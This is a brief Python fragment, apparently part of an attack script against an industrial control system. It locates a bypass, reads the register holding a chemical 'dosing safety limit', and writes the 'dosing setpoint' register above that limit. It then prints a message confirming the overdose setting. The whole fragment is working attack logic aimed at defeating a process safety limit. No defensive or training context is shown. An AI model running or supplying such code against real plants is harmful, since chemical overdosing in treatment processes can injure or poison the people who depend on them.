bypass = find_bypass()
setpoint = find_tag(objects, "HR", "dosing setpoint")
limit = client.read_registers(3, find_tag(objects, "HR", "dosing safety limit"), 1)[0]
client.write_register(setpoint, limit + 25)
time.sleep(0.5)
print("dosing setpoint %.1f mg/L over the limit of %.1f mg/L" % ((limit + 25) / 10, limit / 10))
